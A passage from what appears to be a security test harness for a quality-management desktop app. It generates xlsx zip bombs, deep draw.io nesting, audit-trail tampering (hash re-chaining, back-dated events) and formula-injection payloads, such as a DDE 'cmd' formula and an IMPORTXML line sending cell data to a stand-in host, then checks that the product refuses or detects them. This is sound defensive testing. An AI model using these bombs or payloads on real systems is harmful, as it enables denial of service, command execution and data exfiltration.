        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
        '</sheetData></worksheet>'),
    "xl/sharedStrings.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4" '
        'uniqueCount="4"><si><t>ID</t></si><si><t>Title</t></si><si><t>R-1</t></si>'
        '<si><t>A risk</t></si></sst>'),
    "xl/styles.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<fonts count="1"><font><sz val="11"/></font></fonts><fills count="1"><fill>'
        '<patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="1"><xf/></cellXfs>'
        '</styleSheet>'),
}

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
#: name → (part, prefix, repeated unit, suffix): the part inflates to ≥ 3 GiB
BOMBS = {
    "sharedStrings: one 3 GiB string": (
        "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}><si><t>ID</t></si>'
        '<si><t>Title</t></si><si><t>R-1</t></si><si><t>', "A", "</t></si></sst>"),
    "sharedStrings: 190 million strings": (
        "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}><si><t>ID</t></si>'
        '<si><t>Title</t></si>', "<si><t>a</t></si>", "</sst>"),
    "styles: 3 GiB of cell formats": (
        "xl/styles.xml", f'<?xml version="1.0"?><styleSheet {NS}><cellXfs>',
        '<xf numFmtId="0" fontId="0"/>', "</cellXfs></styleSheet>"),
    "workbook: 3 GiB of sheet entries": (
        "xl/workbook.xml", f'<?xml version="1.0"?><workbook {NS} xmlns:r="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Risks" sheetId="1" r:id="rId1"/>', '<definedName name="x">A1</definedName>',
        "</sheets></workbook>"),
    "worksheet: 3 GiB of rows": (
        "xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {NS}><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
        '<row><c t="inlineStr"><is><t>x</t></is></c></row>', "</sheetData></worksheet>"),
    "worksheet: declared 2 KB, inflates to 3 GiB": (
        "xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {NS}><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
        '<row><c t="inlineStr"><is><t>x</t></is></c></row>', "</sheetData></worksheet>"),
}


MIB = 1 << 20
#: name → (bomb above, size): parts just under the importer's caps, which must be read (or
#: refused) without the memory running away either
NEAR_CAP = {
    "worksheet: 250 MiB, 5.3 million rows": ("worksheet: 3 GiB of rows", 250 * MIB),
    "sharedStrings: 63 MiB, 3.9 million strings": ("sharedStrings: 190 million strings",
                                                   63 * MIB),
    "styles: 15 MiB, 500,000 cell formats": ("styles: 3 GiB of cell formats", 15 * MIB),
}


def _deflate_bomb(prefix: bytes, unit: bytes, suffix: bytes, size: int) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, uncompressed size ≥ ``size``) of prefix + unit × k + suffix,
    built from one compressed block repeated: never holds the inflated data."""
    chunk = unit * max(1, (1 << 20) // len(unit))  # ~1 MiB of whole units
    n = -(-(size - len(prefix) - len(suffix)) // len(chunk))

    def part(data: bytes, final: bool) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)
    head, body, tail = part(prefix, False), part(chunk, False), part(suffix, True)
    crc = zlib.crc32(prefix)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    return head + body * n + tail, crc & 0xFFFFFFFF, len(prefix) + len(chunk) * n + len(suffix)


def _write_zip(path: Path, entries: list[tuple[str, bytes, int, int, int | None]]) -> None:
    """A zip of raw-deflated entries (name, data, crc, size, declared size or None)."""
    central = io.BytesIO()
    with open(path, "wb") as f:
        for name, data, crc, usize, declared in entries:
            n = name.encode()
            size = usize if declared is None else declared
            offset = f.tell()
            f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data),
                                size, len(n), 0) + n)
            f.write(data)
            central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21,
                                      crc, len(data), size, len(n), 0, 0, 0, 0, 0, offset) + n)
        cd = central.getvalue()
        start = f.tell()
        f.write(cd)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd),
                            start, 0))


def make_bomb(path: Path, part: str, prefix: str, unit: str, suffix: str, *,
              size: int = 3 * GIB, lie: bool = False) -> int:
    entries = []
    inflated = 0
    for name, text in XLSX_PARTS.items():
        if name == part:
            data, crc, usize = _deflate_bomb(prefix.encode(), unit.encode(), suffix.encode(),
                                             size)
            inflated = usize
            entries.append((name, data, crc, usize, 2048 if lie else None))
        else:
            raw = text.encode()
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            data = c.compress(raw) + c.flush()
            entries.append((name, data, zlib.crc32(raw), len(raw), None))
    _write_zip(path, entries)
    return inflated


def _peak_run(run: Run, cmd: list[str], timeout: float) -> tuple[int | None, float | None, str,
                                                                  float]:
    """(exit code, peak RSS MB, the command's output, seconds) via bench/peak_rss.py."""
    t0 = time.perf_counter()
    try:
        p = subprocess.run([PY, "-m", "bench.peak_rss", "--", *cmd], capture_output=True,
                           text=True, timeout=timeout, env=run.env, cwd=ROOT, errors="replace")
    except subprocess.TimeoutExpired:
        return None, None, "timed out", time.perf_counter() - t0
    try:
        doc = json.loads(p.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return None, None, p.stderr, time.perf_counter() - t0
    return doc["rc"], doc["peak_rss_mb"], p.stderr, doc["seconds"]


def attack_bombs(run: Run, args) -> Result:
    from qms_desktop.storage.workspace import create_workspace

    d = run.dir("bombs")
    ws = d / "ws.qms"
    create_workspace(ws).close()
    failures, notes = [], []
    ok = 0
    peaks = []
    normal = d / "normal.xlsx"
    _minimal_xlsx(normal)
    rc, base_peak, out, secs = _peak_run(run, [*CLI, "import", "risks", str(ws), str(normal),
                                               "--dry-run"], 120)
    notes.append(f"baseline: a 2-row register, dry run: exit {rc}, peak {base_peak:.0f} MB, "
                 f"{secs:.1f} s" if base_peak else f"baseline failed: {out[-300:]}")
    before = sha(ws)
    cases = [(name, name, 3 * GIB, True) for name in BOMBS]
    cases += [(name, bomb, size, False) for name, (bomb, size) in NEAR_CAP.items()]
    near_ok = 0
    for i, (name, bomb, size, must_refuse) in enumerate(cases):
        part, prefix, unit, suffix = BOMBS[bomb]
        f = d / f"bomb{i}.xlsx"
        inflated = make_bomb(f, part, prefix, unit, suffix, size=size, lie="declared" in name)
        rc, peak, out, secs = _peak_run(run, [*CLI, "import", "risks", str(ws), str(f),
                                              "--dry-run"], 300)
        msg = out.strip()
        bounded = peak is not None and peak < 300 and "Traceback" not in out
        if must_refuse:
            good = bounded and rc in (1, 2) and one_line(msg) and msg.endswith((".", ")"))
            ok += good
        else:
            good = bounded and rc in (0, 1, 2)
            near_ok += good
        if peak:
            peaks.append(peak)
        said = msg.splitlines()[-1][:160] if msg else ""
        notes.append(f"{name} ({f.stat().st_size / 1e6:.1f} MB file → "
                     f"{inflated / MIB:,.0f} MiB): exit {rc}, peak "
                     f"{peak if peak is None else round(peak)} MB, {secs:.1f} s: {said}")
        if not good:
            failures.append(f"xlsx bomb '{name}': exit {rc}, peak RSS {peak} MB, {secs:.1f} s, "
                            f"output {msg[-400:]!r} — reproduce: bench.attacks.make_bomb(path, "
                            f"*BOMBS[{bomb!r}], size={size}) then `qms import risks WS FILE "
                            "--dry-run`")
        f.unlink()
    if sha(ws) != before:
        failures.append("a dry run changed the workspace")
    res = Result("bombs", f"xlsx bombs ({len(BOMBS)} parts inflating to ≥ 3 GiB)",
                 f"{ok}/{len(BOMBS)} refused with a sentence; {near_ok}/{len(NEAR_CAP)} "
                 f"just under the caps read or refused; peak RSS max "
                 f"{max(peaks) if peaks else float('nan'):.0f} MB",
                 f"{len(BOMBS)}/{len(BOMBS)}, each < 300 MB",
                 ok == len(BOMBS) and near_ok == len(NEAR_CAP) and not failures)
    res.notes, res.failures = notes, failures
    return res


# =========================================================================== 6. draw.io nesting


def drawio_chain(n: int, *, children_first: bool) -> bytes:
    """A bare mxGraphModel with ``n`` vertices, each the child of the one before."""
    cells = []
    for i in range(1, n + 1):
        parent = f"v{i - 1}" if i > 1 else "1"
        cells.append(f'<mxCell id="v{i}" vertex="1" parent="{parent}"><mxGeometry '
                     'width="9" height="9" as="geometry"/></mxCell>')
    if children_first:
        cells.reverse()
    return ('<mxGraphModel><root><mxCell id="0"/><mxCell id="1" parent="0"/>'
            + "".join(cells) + "</root></mxGraphModel>").encode()


DRAWIO_TIMER = textwrap.dedent("""
    import gc, json, sys, time
    import xml.etree.ElementTree as ET
    from pathlib import Path
    from qms_desktop.services.processes import read_map

    reps, files = int(sys.argv[1]), [Path(a) for a in sys.argv[2:]]

    def cpu(fn):
        gc.collect()
        t0 = time.process_time()
        got = fn()
        return time.process_time() - t0, got

    read, etree, shapes = [float("inf")] * len(files), [float("inf")] * len(files), []
    for f in files:
        try:
            shapes.append(len(read_map(f, "drawio").map.nodes))
        except Exception as e:  # refused: say so, time the refusal
            shapes.append(f"refused ({type(e).__name__}: {e})")
    for _ in range(reps):
        for j, f in enumerate(files):
            etree[j] = min(etree[j], cpu(lambda: ET.parse(f))[0])
            try:
                read[j] = min(read[j], cpu(lambda: read_map(f, "drawio"))[0])
            except Exception:
                pass
    print(json.dumps({"read": read, "etree": etree, "shapes": shapes}))
""")


def attack_drawio(run: Run, args) -> Result:
    """The CLI's dry run is timed for the record; the ratios come from the same reading timed in
    a fresh process (``services.processes.read_map``, what ``--dry-run`` runs), least CPU time
    of 3-5 runs, against ``xml.etree.ElementTree.parse`` of the same file (the same-run
    baseline)."""
    from qms_desktop.storage.workspace import create_workspace

    d = run.dir("drawio")
    ws = d / "ws.qms"
    create_workspace(ws).close()
    notes, failures, lines = [], [], []
    worst = 0.0
    for label, n0, first, reps in (("children-first", 3000, True, 5),
                                   ("parent-first", 40000, False, 3)):
        sizes = [n0, 2 * n0, 4 * n0]
        files = []
        for n in sizes:
            f = d / f"{label}-{n}.drawio"
            f.write_bytes(drawio_chain(n, children_first=first))
            files.append(f)
        # timed in a fresh process (this one's heap would slow the reading down), the sizes in
        # turn each repetition so that a busy moment of the machine does not land on one size
        # only; the least CPU time of each is kept
        p = subprocess.run([PY, "-c", DRAWIO_TIMER, str(reps), *map(str, files)],
                           capture_output=True, text=True, env=run.env, timeout=600)
        try:
            timed = json.loads(p.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            raise RuntimeError(f"draw.io timer failed: {p.stderr[-800:]}") from None
        reads, etrs, shapes = timed["read"], timed["etree"], timed["shapes"]
        for j, (n, f) in enumerate(zip(sizes, files)):
            rd, et = reads[j], etrs[j]
            rc, out, err, secs = run.qms("import", "drawio", str(ws), str(f), "--dry-run",
                                         timeout=300)
            said = ((err.strip() or out.strip()).splitlines() or [""])[-1][:120]
            notes.append(f"{label} n={n:,} ({f.stat().st_size / MIB:.1f} MiB): read "
                         f"{rd * 1000:.0f} ms ({shapes[j]} shapes), xml.etree {et * 1000:.0f} ms "
                         f"→ ×{rd / et:.1f}; CLI dry run exit {rc} in {secs:.2f} s: {said}")
            if rc is None or rc not in (0, 1, 2) or "Traceback" in out + err:
                failures.append(f"draw.io {label} n={n}: `qms import drawio WS F --dry-run` "
                                f"exit {rc}: {said}")
            if j == 0 and first:  # a real import of the same file (not a dry run), for the record
                w2 = d / "real.qms"
                create_workspace(w2).close()
                rc2, out2, err2, secs2 = run.qms("import", "drawio", str(w2), str(f),
                                                 timeout=300)
                said2 = ((err2.strip() or out2.strip()).splitlines() or [""])[-1][:120]
                notes.append(f"  real import of {label} n={n:,}: exit {rc2} in {secs2:.2f} s: "
                             f"{said2}")
                if rc2 is None or rc2 not in (0, 1, 2) or "Traceback" in out2 + err2:
                    failures.append(f"draw.io {label} n={n}: `qms import drawio WS F` exit "
                                    f"{rc2}: {said2}")
            f.unlink()
        r1, r2 = reads[1] / reads[0], reads[2] / reads[1]
        worst = max(worst, r1, r2)
        lines.append(f"{label} {n0:,}→{4 * n0:,}: ×{r1:.2f}, ×{r2:.2f} per doubling "
                     f"(etree ×{etrs[1] / etrs[0]:.2f}, ×{etrs[2] / etrs[1]:.2f}), "
                     f"{reads[2] / etrs[2]:.1f}× etree at 4n")
    res = Result("drawio", "draw.io nesting, reading time per doubling of n", "; ".join(lines),
                 "≈ ×2 per doubling (≤ ×2.6)", worst <= 2.6 and not failures)
    res.notes, res.failures = notes, failures
    return res


# =========================================================================== 7. tampering


def _decode(text: str | None):
    return None if text is None else json.loads(text)


def _rollback(p: Path, keep_upto: int) -> int:
    """Undo, with plain sqlite3, every audit event after ``keep_upto`` and the record changes
    they describe; returns how many events were removed."""
    c = sqlite3.connect(p, isolation_level=None)
    try:
        c.execute("BEGIN")
        rows = c.execute("SELECT id, op, entity, record_id, field, old, new FROM audit_event "
                         "WHERE id > ? ORDER BY id DESC", (keep_upto,)).fetchall()
        for _eid, op, entity, rid, fld, old, new in rows:
            if op == "update":
                c.execute(f'UPDATE "{entity}" SET "{fld}"=? WHERE id=?', (_decode(old), rid))
            elif op == "insert":
                c.execute(f'DELETE FROM "{entity}" WHERE id=?', (rid,))
            else:
                rec = _decode(old)
                cols = ", ".join(f'"{k}"' for k in rec)
                c.execute(f'INSERT INTO "{entity}" ({cols}) VALUES '
                          f'({", ".join("?" * len(rec))})', list(rec.values()))
        c.execute("DELETE FROM audit_event WHERE id > ?", (keep_upto,))
        c.execute("COMMIT")
        return len(rows)
    finally:
        c.close()


def _rechain(c: sqlite3.Connection, from_id: int) -> None:
    from qms_desktop.core.audit_chain import GENESIS, event_hash

    prev = (c.execute("SELECT hash FROM audit_event WHERE id < ? ORDER BY id DESC LIMIT 1",
                      (from_id,)).fetchone() or [GENESIS])[0]
    rows = c.execute("SELECT id, at, user, op, entity, record_id, field, old, new FROM "
                     "audit_event WHERE id >= ? ORDER BY id", (from_id,)).fetchall()
    for eid, at, user, op, entity, rid, fld, old, new in rows:
        h = event_hash(prev, at, user, op, entity, rid, fld or "", old, new)
        c.execute("UPDATE audit_event SET prev_hash=?, hash=? WHERE id=?", (prev, h, eid))
        prev = h


def _rewrite_old_event(p: Path) -> str:
    """Change an early risk's title in its insert event and in the record (a risk no later
    event touches), then re-chain every later hash. Returns what was done."""
    c = sqlite3.connect(p, isolation_level=None)
    try:
        c.execute("BEGIN")
        eid, rid, new = c.execute(
            "SELECT e.id, e.record_id, e.new FROM audit_event e WHERE e.entity='risk' AND "
            "e.op='insert' AND NOT EXISTS (SELECT 1 FROM audit_event u WHERE u.entity='risk' "
            "AND u.record_id=e.record_id AND u.id > e.id AND u.field IN ('title', '')) "
            "ORDER BY e.id LIMIT 1").fetchone()
        rec = json.loads(new)
        rec["title"] = "Nothing to see here"
        c.execute("UPDATE audit_event SET new=? WHERE id=?",
                  (json.dumps(rec, ensure_ascii=False, sort_keys=True, separators=(",", ":")),
                   eid))
        c.execute("UPDATE risk SET title=? WHERE id=?", (rec["title"], rid))
        _rechain(c, eid)
        c.execute("COMMIT")
        return f"event {eid} (insert of risk {rid}) rewritten, every later hash re-chained"
    finally:
        c.close()


def _append_backdated(p: Path) -> str:
    from qms_desktop.core.audit_chain import encode_field, event_hash

    c = sqlite3.connect(p, isolation_level=None)
    try:
        c.execute("BEGIN")
        rid, title = c.execute("SELECT id, title FROM risk ORDER BY id LIMIT 1").fetchone()
        last_id, head, user = c.execute("SELECT id, hash, user FROM audit_event ORDER BY id DESC "
                                        "LIMIT 1").fetchone()
        first_at = c.execute("SELECT min(at) FROM audit_event").fetchone()[0]
        at = "2020-01-15T09:30:00.000000Z"  # back-dated before the first event
        new_title = "Risk accepted by management"
        c.execute("UPDATE risk SET title=? WHERE id=?", (new_title, rid))
        old, new = encode_field(title), encode_field(new_title)
        h = event_hash(head, at, user, "update", "risk", rid, "title", old, new)
        c.execute("INSERT INTO audit_event (id, at, user, op, entity, record_id, field, old, "
                  "new, prev_hash, hash) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
                  (last_id + 1, at, user, "update", "risk", rid, "title", old, new, head, h))
        c.execute("COMMIT")
        return (f"risk {rid} title changed, event {last_id + 1} appended dated {at} (the first "
                f"event is dated {first_at})")
    finally:
        c.close()


def attack_tamper(run: Run, args) -> Result:
    from qms_desktop.services import records as R
    from qms_desktop.storage.workspace import open_workspace

    d = run.dir("tamper")
    base = d / "X.qms"
    shutil.copyfile(run.demo(), base)
    # 100 more edits through the services, so the last 100 events are ours to roll back
    ws = open_workspace(base)
    with ws.connect() as c:
        rids = [r[0] for r in c.exec_driver_sql("SELECT id FROM risk ORDER BY id DESC LIMIT 5")]
        n0 = c.exec_driver_sql("SELECT max(id) FROM audit_event").scalar()
    for i in range(50):
        R.update_fields(ws, "risk", rids[i % len(rids)], {"title": f"reviewed {i}"})
        R.create(ws, "role", {"name": f"auditor {i}"})
    ws.close()
    rc, out, err, _ = run.qms("info", "--json", str(base))
    info = json.loads(out)
    head, n = info["head_hash"], info["head_event"]
    expect = f"{head}@{n}"
    notes = [f"noted head {head[:16]}… @ event {n} ({n - n0} events after the demo's)"]
    failures = []
    caught = 0
    for key, how in (("a", "roll back the last 100 audit events and their changes"),
                     ("b", "rewrite an old event and re-chain all later hashes"),
                     ("c", "change a record and append a correctly hashed back-dated event")):
        p = d / f"X-{key}.qms"
        shutil.copyfile(base, p)
        if key == "a":
            did = f"{_rollback(p, n - 100)} events removed, their changes undone"
        elif key == "b":
            did = _rewrite_old_event(p)
        else:
            did = _append_backdated(p)
        rc_e, out_e, err_e, _ = run.qms("verify", str(p), "--expect", expect)
        rc_p, out_p, err_p, _ = run.qms("verify", str(p))
        said_e = (out_e + err_e).strip().replace("\n", " / ")
        said_p = (out_p + err_p).strip().replace("\n", " / ")
        good = rc_e == 1 and "Traceback" not in said_e
        caught += good
        notes.append(f"({key}) {how}: {did}")
        notes.append(f"    verify --expect: exit {rc_e}: {said_e[:400]}")
        notes.append(f"    verify (no --expect): exit {rc_p}: {said_p[:300]}")
        if not good:
            failures.append(f"tamper ({key}) {how} not caught: `qms verify X.qms --expect "
                            f"{expect}` exit {rc_e}: {said_e[:300]} — reproduce: qms demo X.qms;"
                            f" 100 edits; qms info; then {did}")
    res = Result("tamper", "tampered audit trails caught by verify --expect",
                 f"{caught}/3 caught", "3/3", caught == 3)
    res.notes, res.failures = notes, failures
    return res


# =========================================================================== 8. formula injection

PAYLOADS = [
    "=1+1", "+cmd", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋cmd",
    "－2+3", "＠SUM(1)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://x.invalid\",\"click\")",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "=-1", "+=1", "@=1", "#N/A", "#REF!",
    "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")",
]
ACTION_MARK = " ·act"  # tells an action's text from a risk's in the export
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
BLANKS = " \u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a" \
         "\u200b\u202f\u205f\u3000\ufeff"


def attack_formula(run: Run, args) -> Result:
    import openpyxl

    from qms_desktop.services import actions as A
    from qms_desktop.services import risks as RK
    from qms_desktop.services.records import RecordError
    from qms_desktop.storage.workspace import WorkspaceError, create_workspace

    d = run.dir("formula")
    p = d / "ws.qms"
    ws = create_workspace(p)
    stored = refused = 0
    notes, failures = [], []
    refusals = set()
    for i, payload in enumerate(PAYLOADS):
        values = {f: payload for f in RK.TEXT_FIELDS}
        values["ref"] = payload + f" {i}" if payload.strip() in ("", "#N/A", "#REF!") else payload
        try:
            rid = RK.add_risk(ws, values).result
            stored += len(values)
        except (RecordError, WorkspaceError) as e:  # one field at a time, to see which
            refusals.add(str(e)[:120])
            rid = RK.add_risk(ws, {"title": f"risk {i}"}).result
            for k, v in values.items():
                try:
                    RK.update_risks(ws, [rid], {k: v})
                    stored += 1
                except (RecordError, WorkspaceError) as e2:
                    refused += 1
                    refusals.add(f"risk.{k}: {str(e2)[:120]}")
        aid = A.add_action(ws, "risk", rid, {"title": f"action {i}"}).result
        for k in A.TEXT_FIELDS:
            v = f"{payload}-{i}" if k == "ref" else payload + ACTION_MARK
            try:
                A.update_actions(ws, [aid], {k: v})
                stored += 1
            except (RecordError, WorkspaceError) as e:
                refused += 1
                refusals.add(f"action.{k}: {str(e)[:120]}")
            except Exception as e:  # noqa: BLE001
                failures.append(f"action.{k} = {payload!r}: {type(e).__name__}: {e}")
    ws.close()
    out = d / "risks.xlsx"
    rc, o, err, _ = run.qms("export", "risks", "-o", str(out), str(p), timeout=120)
    if rc != 0:
        failures.append(f"qms export risks failed: exit {rc}: {err.strip()[:300]}")
        return Result("formula", "formula injection in exported cells", "export failed", "0",
                      False, notes, failures)
    wb = openpyxl.load_workbook(out)
    bad = []
    cells = payload_cells = protected = action_cells = 0
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                v = cell.value
                if v is None:
                    continue
                cells += 1
                text = v if isinstance(v, str) else None
                if text is not None and any(pl.strip(BLANKS) and pl.strip(BLANKS) in text
                                            for pl in PAYLOADS):
                    payload_cells += 1
                    action_cells += ACTION_MARK in text
                quoted = bool(cell.quotePrefix)
                protected += bool(quoted and text)
                looks = False
                if text is not None:
                    s = text.lstrip(BLANKS)
                    looks = bool(s) and (s[0] in STARTS or s.strip().upper() in
                                         ("#N/A", "#REF!"))
                if cell.data_type in ("f", "e") or (looks and not quoted) or \
                        type(v).__name__ in ("ArrayFormula", "DataTableFormula"):
                    bad.append(f"{sheet.title}!{cell.coordinate} ({cell.data_type}) {v!r:.60}")
    if bad:
        failures.append(f"{len(bad)} formula cells in the export, e.g. {bad[:5]} — reproduce: "
                        "put the payload in the field via services, `qms export risks -o F WS`")
    notes.append(f"{stored} payload fields stored (risks × {len(RK.TEXT_FIELDS)} text fields, "
                 f"actions × {len(A.TEXT_FIELDS)}), {refused} refused by the services"
                 + (f": {sorted(refusals)[:4]}" if refusals else ""))
    notes.append(f"export: {cells} non-empty cells, {payload_cells} hold a payload, "
                 f"{protected} text cells stored with the quote prefix; {action_cells} cells "
                 "hold an action's text")
    res = Result("formula", f"formula injection ({len(PAYLOADS)} payloads in every text field)",
                 f"{len(bad)} formula/error cells in the exported xlsx", "0", not bad and
                 not failures)
    res.notes, res.failures = notes, failures
    return res


# =========================================================================== main

CATEGORIES: dict[str, tuple[str, Callable[[Run, argparse.Namespace], Result]]] = {
    "hostile": ("1", attack_hostile),
    "kills": ("2", attack_kills),
    "lock": ("3", attack_lock),
    "overwrite": ("4", attack_overwrite),
    "bombs": ("5", attack_bombs),
    "drawio": ("6", attack_drawio),
    "tamper": ("7", attack_tamper),
    "formula": ("8", attack_formula),
}


def _force_rmtree(path: Path) -> None:
    for root, dirs, _files in os.walk(path):
        for dname in dirs:
            with contextlib.suppress(OSError):
                p = Path(root) / dname
                if not p.is_symlink():
                    os.chmod(p, 0o755)
    shutil.rmtree(path, ignore_errors=True)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.attacks",
                                 description="Re-attack the product (issue 9) and print figures.")
    ap.add_argument("names", nargs="*", metavar="CATEGORY",
                    help=f"categories (default: all): {', '.join(CATEGORIES)}")
    ap.add_argument("--kills", type=int, default=50, help="SIGKILLs of the writer (default 50)")
    ap.add_argument("--crash-kills", type=int, default=10,
                    help="extra SIGKILLs at a random point of a random commit (default 10)")
    ap.add_argument("--race", type=int, default=200,
                    help="racing opens on a stale lock, in rounds of 20 (default 200)")
    ap.add_argument("-v", "--verbose", action="store_true", help="every hostile case's outcome")
    ap.add_argument("--keep", action="store_true", help="keep the temporary folder")
    args = ap.parse_args(argv)
    unknown = [n for n in args.names if n not in CATEGORIES]
    if unknown:
        ap.error(f"unknown category {', '.join(unknown)}; choose from {', '.join(CATEGORIES)}")
    names = args.names or list(CATEGORIES)
    tmp = Path(tempfile.mkdtemp(prefix="qms-attacks-"))
    run = Run(tmp)
    results: list[Result] = []
    started = time.perf_counter()
    try:
        for name in names:
            t0 = time.perf_counter()
            try:
                res = CATEGORIES[name][1](run, args)
            except Exception as e:  # noqa: BLE001 — one broken attack must not hide the others
                import traceback

                res = Result(name, name, f"attack failed to run: {type(e).__name__}: {e}",
                             "-", False, failures=[traceback.format_exc()[-1500:]])
            res.seconds = time.perf_counter() - t0
            results.append(res)
            print(f"{CATEGORIES[name][0]}. {res.line()}", flush=True)
            for note in res.notes:
                print(f"     {note}", flush=True)
            for fail in res.failures:
                print(f"     FAILURE: {fail}", flush=True)
    finally:
        if args.keep:
            print(f"files kept in {tmp}", file=sys.stderr)
        else:
            _force_rmtree(tmp)
    print()
    print(f"{'#':<2} {'category':<10} {'measured':<70} {'target':<28} result")
    for r in results:
        measured = r.measured if len(r.measured) <= 70 else r.measured[:67] + "..."
        print(f"{CATEGORIES[r.key][0] if r.key in CATEGORIES else '?':<2} {r.key:<10} "
              f"{measured:<70} {r.target[:28]:<28} {'PASS' if r.passed else 'MISS'}")
    took = time.perf_counter() - started
    print(f"{sum(r.passed for r in results)}/{len(results)} categories on target; "
          f"{sum(len(r.failures) for r in results)} failures; {took:.0f} s")
    return 0 if all(r.passed for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
